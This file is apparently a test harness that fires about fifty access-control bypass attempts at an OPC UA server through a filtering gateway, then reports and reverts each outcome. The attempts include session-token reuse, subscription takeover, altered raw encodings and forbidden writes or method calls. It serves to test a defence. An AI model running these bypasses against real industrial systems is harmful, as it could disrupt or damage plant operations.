// Tries by a node-opcua client what gets around rules that look at literal node ids of single requests, and says what came of each:
//   NAME: STATUS kept|reached|leaked (SERVICE NODE)
// After each one the server is read back by a connection of its own, and put right again.
// usage: node opcua_attacks.mjs URL None|SignAndEncrypt DIRECT [NAME]; with NAME only that one
import { join } from "node:path";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import {
  AddNodesRequest, AddReferencesRequest, AttributeIds, AttributeOperand, BinaryStream, BrowseNextRequest, BrowseRequest, CallRequest,
  ContentFilter, ContentFilterElement, CreateMonitoredItemsRequest, CreateSubscriptionRequest, DataType, DataValue, DeleteNodesRequest,
  DeleteReferencesRequest, EventFilter, FilterOperator, HistoryReadRequest, HistoryUpdateRequest, LiteralOperand, MessageChunker,
  MessageSecurityMode, ModifyMonitoredItemsRequest, NumericRange, OPCUACertificateManager, OPCUAClient, PublishRequest, QueryFirstRequest,
  ReadRawModifiedDetails, ReadRequest, RegisterNodesRequest, RepublishRequest, SecurityPolicy, SimpleAttributeOperand, StatusCodes,
  TransferSubscriptionsRequest, TranslateBrowsePathsToNodeIdsRequest, UserTokenType, Variant, VariantArrayType, WriteRequest, coerceNodeId,
  makeBrowsePath, makeExpandedNodeId, resolveNodeId,
} from "node-opcua";

const [url, mode, direct, only] = process.argv.slice(2);
const rootFolder = process.env.OPCUA_PKI ?? mkdtempSync(join(tmpdir(), "otedge-opcua-attacker-"));
const connect = async (to, security, identity = { type: UserTokenType.Anonymous }, application = "urn:acme:mes") => {
  const client = OPCUAClient.create({
    applicationName: "mes", applicationUri: application, endpointMustExist: false,
    securityMode: MessageSecurityMode[security], securityPolicy: security === "None" ? SecurityPolicy.None : SecurityPolicy.Basic256Sha256,
    clientCertificateManager: new OPCUACertificateManager({ rootFolder: application === "urn:acme:mes" ? rootFolder : `${rootFolder}-other`, automaticallyAcceptUnknownCertificate: true }),
    connectionStrategy: { maxRetry: 0, initialDelay: 100, maxDelay: 200 }, transportTimeout: 30000, defaultTransactionTimeout: 15000, requestedSessionTimeout: 30000,
  });
  await client.connect(to);
  return { client, session: await client.createSession(identity) };
};
const operator = { type: UserTokenType.UserName, userName: "operator", password: "secret" };
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

// node-opcua's server does not answer what it cannot decode.
const send = (session, request) => new Promise((resolve) => {
  const patience = setTimeout(() => resolve({ fault: "unanswered" }), request.schema.name === "Raw" ? 1000 : 15000);
  session.performMessageTransaction(request, (fault, response) => {
    clearTimeout(patience);
    resolve(fault ? { fault: /Bad\w+/.exec(fault.message)?.[0] ?? "closed" } : response);
  });
});
// What a response says of its first item, or of itself.
const said = (response) => response.fault
  ?? (response.results?.[0]?.statusCode ?? response.results?.[0])?.name
  ?? response.responseHeader.serviceResult.name;

// A request whose bytes are not those that node-opcua writes.
const raw = (request, typeId, change = (bytes) => bytes) => ({
  requestHeader: request.requestHeader,
  schema: { name: "Raw", encodingDefaultBinary: typeId ?? request.schema.encodingDefaultBinary },
  encode: (stream) => {
    const own = new BinaryStream(65536);
    request.encode(own);
    for (const byte of change(Buffer.from(own.buffer.subarray(0, own.length)))) {
      stream.writeUInt8(byte);
    }
  },
});
const replaced = (bytes, from, to) => {
  const at = bytes.indexOf(from);
  return Buffer.concat([bytes.subarray(0, at), to, bytes.subarray(at + from.length)]);
};

// How node-opcua cuts messages: `chunking` is asked once for each of them.
let chunking = null;
const cut = MessageChunker.prototype.chunkSecureMessage;
MessageChunker.prototype.chunkSecureMessage = function (type, options, message, sent) {
  if (type === "MSG" && chunking) {
    chunking(options);
  }
  return cut.call(this, type, options, message, sent);
};

const guard = (name) => `ns=2;s=Guard.${name}`;
const line = (name) => `ns=2;s=Line1.${name}`;
const double = (value) => new Variant({ dataType: DataType.Double, value });
const doubles = (...values) => new Variant({ dataType: DataType.Double, arrayType: VariantArrayType.Array, value: new Float64Array(values) });
const writing = (...writes) => new WriteRequest({
  nodesToWrite: writes.map(([nodeId, value, more = {}]) => ({
    nodeId: coerceNodeId(nodeId), attributeId: AttributeIds.Value, value: value instanceof DataValue ? value : new DataValue({ value }), ...more,
  })),
});
const write = (...writes) => async ({ session }) => said(await send(session, writing(...writes)));
const reading = (nodeId) => new ReadRequest({ timestampsToReturn: 3, nodesToRead: [{ nodeId, attributeId: AttributeIds.Value }] });
// Sends right behind an ActivateSession, before it is answered.
const behindActivation = (client, what) => new Promise((resolve) => client._secureChannel.on("send_request", function (request) {
  if (request.constructor.name === "ActivateSessionRequest") {
    setImmediate(() => resolve(what()));
  }
}));
const call = (objectId, methodId, ...inputArguments) => ({ objectId: coerceNodeId(objectId), methodId: coerceNodeId(methodId), inputArguments });
const calling = (...methodsToCall) => async ({ session }) => said(await send(session, new CallRequest({ methodsToCall })));
const message = new SimpleAttributeOperand({ typeDefinitionId: coerceNodeId("ns=0;i=2041"), browsePath: [{ name: "Message" }], attributeId: AttributeIds.Value });
const comparing = (node) => new EventFilter({
  selectClauses: [message],
  whereClause: new ContentFilter({
    elements: [new ContentFilterElement({
      filterOperator: FilterOperator.Equals,
      filterOperands: [new AttributeOperand({ nodeId: coerceNodeId(node), attributeId: AttributeIds.Value }), new LiteralOperand({ value: double(1) })],
    })],
  }),
});
const subscribed = async (session) => (await send(session, new CreateSubscriptionRequest({
  requestedPublishingInterval: 50, requestedLifetimeCount: 1000, requestedMaxKeepAliveCount: 10, maxNotificationsPerPublish: 100, publishingEnabled: true, priority: 1,
}))).subscriptionId;
const monitoring = (subscriptionId, nodeId, attributeId = AttributeIds.Value, filter = null) => new CreateMonitoredItemsRequest({
  subscriptionId, timestampsToReturn: 2,
  itemsToCreate: [{ itemToMonitor: { nodeId: coerceNodeId(nodeId), attributeId }, monitoringMode: 2, requestedParameters: { clientHandle: 1, samplingInterval: 0, filter, queueSize: 10, discardOldest: true } }],
});
const published = async (session) => {
  const response = await send(session, new PublishRequest({ subscriptionAcknowledgements: [] }));
  return response.notificationMessage?.notificationData?.[0]?.monitoredItems?.[0]?.value.value.value;
};

// name, service and node of its finding (null: it names none that can be known), and what it does; it gives a status, and a value where it
// has read one.
const attacks = [
  ["a plain write", "Write", guard("G0"), write([guard("G0"), double(1)])],
  ["a registered alias", "Write", guard("G1"), async ({ session }) => {
    const { registeredNodeIds } = await send(session, new RegisterNodesRequest({ nodesToRegister: [guard("G1")] }));
    return said(await send(session, writing([registeredNodeIds?.[0] ?? guard("G1"), double(1)])));
  }],
  ["a translated path", "Write", guard("G2"), async ({ session }) => {
    const { targets } = await session.translateBrowsePath(makeBrowsePath("RootFolder", "/Objects/2:Guard/2:G2"));
    return said(await send(session, writing([targets[0].targetId, double(1)])));
  }],
  ["a longer encoding of a number", "Write", "ns=2;i=300", async ({ session }) =>
    said(await send(session, raw(writing(["ns=2;i=300", double(1)]), null, (bytes) => replaced(bytes, Buffer.from([1, 2, 44, 1]), Buffer.from([2, 2, 0, 44, 1, 0, 0])))))],
  ["an id with a server index", null, null, async ({ session }) =>
    said(await send(session, raw(writing([guard("G3"), double(1)]), null, (bytes) =>
      replaced(bytes, Buffer.from([3, 2, 0, 8, 0, 0, 0, ...Buffer.from("Guard.G3")]), Buffer.from([0x43, 2, 0, 8, 0, 0, 0, ...Buffer.from("Guard.G3"), 0, 0, 0, 0])))))],
  ["an id with a namespace URI", null, null, async ({ session }) =>
    said(await send(session, raw(writing([guard("G4"), double(1)]), null, (bytes) =>
      replaced(bytes, Buffer.from([3, 2, 0, 8, 0, 0, 0, ...Buffer.from("Guard.G4")]), Buffer.from([0x83, 2, 0, 8, 0, 0, 0, ...Buffer.from("Guard.G4"), 255, 255, 255, 255])))))],
  ["letters in another case", "Write", "ns=2;s=guard.g5", write(["ns=2;s=guard.g5", double(1)])],
  ["an array with one element beyond the limits", "Write", line("Limits"), write([line("Limits"), doubles(1, 99, 3)])],
  ["an index range beyond the limits", "Write", line("Limits"), write([line("Limits"), doubles(99), { indexRange: new NumericRange("1") }])],
  ["not a number", "Write", line("Target"), write([line("Target"), double(Number.NaN)])],
  ["infinity", "Write", line("Target"), write([line("Target"), double(Number.POSITIVE_INFINITY)])],
  ["an integer for a double", "Write", line("Target"), write([line("Target"), new Variant({ dataType: DataType.Int64, arrayType: VariantArrayType.Scalar, value: [0, 99] })])],
  ["a great unsigned integer", "Write", line("Target"), write([line("Target"), new Variant({ dataType: DataType.UInt64, arrayType: VariantArrayType.Scalar, value: [0x80000000, 85] })])],
  ["a text for a number", "Write", line("Target"), write([line("Target"), new Variant({ dataType: DataType.String, value: "99" })])],
  ["an array for a number", "Write", line("Target"), write([line("Target"), doubles(99)])],
  ["nothing for a number", "Write", line("Target"), write([line("Target"), new Variant({ dataType: DataType.Null })])],
  ["a bad status with a value", "Write", line("Target"), write([line("Target"), new DataValue({ value: double(99), statusCode: StatusCodes.BadDeviceFailure })])],
  ["another attribute", "Write", line("Target"), write([line("Target"), new Variant({ dataType: DataType.LocalizedText, value: { text: "Other" } }), { attributeId: AttributeIds.DisplayName }])],
  ["a batch with one forbidden", "Write", guard("G6"), write([line("Target"), double(42)], [guard("G6"), double(1)])],
  ["a method of another object", "Call", "ns=2;s=Guard", calling(call("ns=2;s=Guard", guard("Purge")))],
  ["a method by its type", "Call", "ns=2;s=Filler1", calling(call("ns=2;s=Filler1", "ns=2;s=FillerType.Flush"))],
  ["a type for an object", "Call", "ns=2;s=FillerType", calling(call("ns=2;s=FillerType", line("Start")))],
  ["a method that writes a node", "Call", "ns=2;s=Guard", calling(call("ns=2;s=Guard", guard("Set"), { dataType: DataType.NodeId, value: resolveNodeId(guard("G7")) }, { dataType: DataType.Double, value: 1 }))],
  ["calls with one forbidden", "Call", "ns=2;s=Guard", calling(call("ns=2;s=Line1", line("Start")), call("ns=2;s=Guard", guard("Purge")))],
  ["a method of the server itself", "Call", "i=2253", calling(call("ns=0;i=2253", "ns=0;i=11492", { dataType: DataType.UInt32, value: 1 }))],
  ["a plain read", "Read", guard("G8"), async ({ session }) => {
    const response = await send(session, reading(guard("G8")));
    return [said(response), response.results?.[0]?.value.value];
  }],
  ["a monitored item", "CreateMonitoredItems", guard("G9"), async ({ session }) => {
    const code = said(await send(session, monitoring(await subscribed(session), guard("G9"))));
    return [code, code === "Good" ? await published(session) : 0];
  }],
  ["an event filter that compares a value", "CreateMonitoredItems", guard("G11"), async ({ session }) =>
    said(await send(session, monitoring(await subscribed(session), "ns=0;i=2253", AttributeIds.EventNotifier, comparing(guard("G11")))))],
  ["a filter changed later", "CreateMonitoredItems", guard("G12"), async ({ session }) => {
    const subscriptionId = await subscribed(session);
    const created = await send(session, monitoring(subscriptionId, "ns=0;i=2253", AttributeIds.EventNotifier, new EventFilter({ selectClauses: [message] })));
    return said(await send(session, new ModifyMonitoredItemsRequest({
      subscriptionId, timestampsToReturn: 2,
      itemsToModify: [{ monitoredItemId: created.results?.[0]?.monitoredItemId ?? 1, requestedParameters: { clientHandle: 1, samplingInterval: 0, queueSize: 10, discardOldest: true, filter: comparing(guard("G12")) } }],
    })));
  }],
  ["the history", "HistoryRead", guard("Kept"), async ({ session }) => {
    const result = await session.readHistoryValue(guard("Kept"), new Date(Date.now() - 3600000), new Date(), { numValuesPerNode: 1 });
    return [result.statusCode.name, result.historyData?.dataValues?.[0]?.value.value];
  }],
  ["an update of the history", "HistoryUpdate", null, async ({ session }) => said(await send(session, new HistoryUpdateRequest({ historyUpdateDetails: [] })))],
  ["a query", "QueryFirst", null, async ({ session }) => said(await send(session, new QueryFirstRequest({})))],
  ["the diagnostics of all sessions", "Read", "i=3708", async ({ session }) =>
    said(await send(session, reading("ns=0;i=3708")))],
  ["another client's subscription taken over", "CreateMonitoredItems", null, async ({ session }) => {
    const victim = await connect(direct, "None");
    const subscriptionId = await subscribed(victim.session);
    await send(victim.session, monitoring(subscriptionId, guard("G13")));
    const code = said(await send(session, new TransferSubscriptionsRequest({ subscriptionIds: [subscriptionId], sendInitialValues: true })));
    const value = code === "Good" ? await published(session) : 0;
    await victim.client.disconnect();
    return [code, value];
  }],
  ["another client's notifications again", null, null, async ({ session }) => {
    const victim = await connect(direct, "None");
    const code = said(await send(session, new RepublishRequest({ subscriptionId: await subscribed(victim.session), retransmitSequenceNumber: 1 })));
    await victim.client.disconnect();
    return code;
  }],
  ["browsing what is guarded", "Browse", "ns=2;s=Guard", async ({ session }) => {
    const response = await send(session, new BrowseRequest({ requestedMaxReferencesPerNode: 100, nodesToBrowse: [{ nodeId: "ns=2;s=Guard", browseDirection: 0, includeSubtypes: true, resultMask: 63 }] }));
    return [said(response), response.results?.[0]?.references?.length > 3 ? 7700 : 0];
  }],
  ["a continuation point of nobody", "BrowseNext", null, async ({ session }) =>
    said(await send(session, new BrowseNextRequest({ continuationPoints: [Buffer.from("8c3b3b3b")] })))],
  ["a path from what is guarded", "TranslateBrowsePaths", "ns=2;s=Guard", async ({ session }) =>
    said(await send(session, new TranslateBrowsePathsToNodeIdsRequest({ browsePaths: [makeBrowsePath("ns=2;s=Guard", "/2:G14")] })))],
  ["a new node", "AddNodes", "ns=2;s=Guard", async ({ session }) => said(await send(session, new AddNodesRequest({
    nodesToAdd: [{ parentNodeId: "ns=2;s=Guard", referenceTypeId: "ns=0;i=47", requestedNewNodeId: "ns=2;s=New", browseName: { name: "New" }, nodeClass: 1, typeDefinition: "ns=0;i=58" }],
  })))],
  ["a new reference", "AddReferences", "ns=2;s=Line1", async ({ session }) => said(await send(session, new AddReferencesRequest({
    referencesToAdd: [{ sourceNodeId: "ns=2;s=Line1", referenceTypeId: "ns=0;i=47", isForward: true, targetNodeId: guard("G15"), targetNodeClass: 2 }],
  })))],
  ["a node taken away", "DeleteNodes", guard("G16"), async ({ session }) => said(await send(session, new DeleteNodesRequest({ nodesToDelete: [{ nodeId: guard("G16"), deleteTargetReferences: true }] })))],
  ["a reference taken away", "DeleteReferences", "ns=2;s=Guard", async ({ session }) => said(await send(session, new DeleteReferencesRequest({
    referencesToDelete: [{ sourceNodeId: "ns=2;s=Guard", referenceTypeId: "ns=0;i=47", isForward: true, targetNodeId: guard("G17"), deleteBidirectional: true }],
  })))],
  ["a structure in XML", "Write", line("Target"), async ({ session }) =>
    said(await send(session, raw(writing([line("Target"), double(99)]), null, (bytes) => {
      const body = Buffer.from("<Double>99</Double>");
      const structure = Buffer.from([22, 0, 10, 2, body.length, 0, 0, 0, ...body]);
      return replaced(bytes, Buffer.from([11, 0, 0, 0, 0, 0, 0xC0, 0x58, 0x40]), structure);
    })))],
  ["the type of a structure for that of a request", "671", null, async ({ session }) => said(await send(session, raw(writing([guard("G18"), double(1)]), makeExpandedNodeId(671, 0))))],
  ["a type of another namespace", null, null, async ({ session }) => said(await send(session, raw(writing([guard("G19"), double(1)]), makeExpandedNodeId(673, 2))))],
  ["a type beyond all numbers", "4294967295", null, async ({ session }) => said(await send(session, raw(writing([guard("G25"), double(1)]), makeExpandedNodeId(0xFFFFFFFF, 0))))],
  ["a request without a session", "SessionlessInvoke", null, async ({ session }) => said(await send(session, raw(writing([guard("G20"), double(1)]), makeExpandedNodeId(15903, 0))))],
  ["bytes behind the end", null, null, async ({ session }) => said(await send(session, raw(writing([guard("G21"), double(1)]), null, (bytes) => Buffer.concat([bytes, Buffer.from([1, 2, 3])]))))],
  ["many small chunks", "Write", guard("G22"), async ({ session }) => {
    chunking = (options) => { options.securityOptions.chunkSize = 128; };
    return said(await send(session, writing([guard("G22"), double(1)])));
  }],
  ["one number for two requests", null, null, async ({ session }) => {
    let first = 0;
    chunking = (options) => { first ||= options.securityOptions.requestId; options.securityOptions.requestId = first; };
    await Promise.race([Promise.all([send(session, reading(line("Target"))), send(session, writing([guard("G23"), double(1)]))]), pause(500)]);
    return "sent";
  }],
  ["a write on the heels of a user who is refused", "Write", line("Operated"), async ({ client, session }) => {
    const written = behindActivation(client, () => send(session, writing([line("Operated"), double(1)])));
    await session.changeUser({ ...operator, password: "wrong" }).catch(() => null);
    return said(await written);
  }],
  ["a write on the heels of a user who leaves", "Write", line("Operated"), async () => {
    const { client, session } = await connect(url, mode, operator);
    const written = behindActivation(client, () => send(session, writing([line("Operated"), double(2)])));
    await session.changeUser({ type: UserTokenType.Anonymous }).catch(() => null);
    const code = said(await written);
    await client.disconnect();
    return code;
  }],
  ["a write with another session's token", null, null, async ({ client }) => {
    const victim = await connect(url, mode, operator);
    const request = writing([guard("G24"), double(1)]);
    request.requestHeader.authenticationToken = victim.session.authenticationToken;
    const code = said(await send(client, request));
    await victim.client.disconnect();
    return code;
  }],
  ["a session moved to another client and user", mode === "None" ? "Write" : null, line("Operated"), async () => {
    const victim = await connect(url, mode, operator);
    const thief = await connect(url, mode, undefined, "urn:acme:other");
    victim.session.userIdentityInfo = { type: UserTokenType.Anonymous };
    const isMoved = await thief.client.reactivateSession(victim.session).then(() => true, () => false);
    const code = isMoved ? said(await send(victim.session, writing([line("Operated"), double(3)]))) : "refused";
    await Promise.allSettled([victim.client.disconnect(), thief.client.disconnect()]);
    return code;
  }],
];

// What the server holds, seen without OtEdge in between.
const seer = await connect(direct, "None");
const values = new Map([
  ...Array.from({ length: 60 }, (_, i) => [guard(`G${i}`), double(7700 + i)]),
  ["ns=2;i=300", double(7790)], [guard("Kept"), double(7791)], [guard("Made"), double(0)],
  [line("Target"), double(20)], [line("Limits"), doubles(1, 2, 3)], [line("Operated"), double(20)],
]);
const state = async () => {
  const read = [...values.keys()].map((nodeId) => ({ nodeId, attributeId: AttributeIds.Value }));
  const held = await seer.session.read([...read, { nodeId: line("Target"), attributeId: AttributeIds.DisplayName }]);
  return held.map((one) => `${one.statusCode.name} ${one.value.value?.text ?? one.value.value}`);
};
const putRight = async () => {
  await seer.session.write([...values].map(([nodeId, value]) => ({ nodeId, attributeId: AttributeIds.Value, value: { value } })));
  return state();
};
const before = await putRight();

// So that OtEdge has seen where nodes are found.
const looker = await connect(url, mode);
await looker.session.browse(["ns=0;i=84", "ns=0;i=85", "ns=2;s=Guard", "ns=2;s=Line1"].map((nodeId) => ({ nodeId, browseDirection: 0, includeSubtypes: true, resultMask: 63 })));
await looker.client.disconnect();

for (const [name, service, node, attack] of attacks.filter(([name]) => name === (only ?? name))) {
  let reached = "kept";
  let status;
  const attacker = await connect(url, mode);
  try {
    const [code, value] = [await attack(attacker)].flat();
    status = code;
    reached = value >= 7700 ? "leaked" : reached;
  } catch (fault) {
    status = /Bad\w+/.exec(fault.message)?.[0] ?? fault.message;
  }
  chunking = null;
  if (String(await state()) !== String(before)) {
    reached = "reached";
    if (String(await putRight()) !== String(before)) {
      throw new Error(`${name}: could not be put right`);
    }
  }
  console.log(`${name}: ${status} ${reached} (${service} ${node})`);
  await Promise.race([attacker.client.disconnect().catch(() => null), pause(1000)]);
}
await seer.client.disconnect();
process.exit(0);
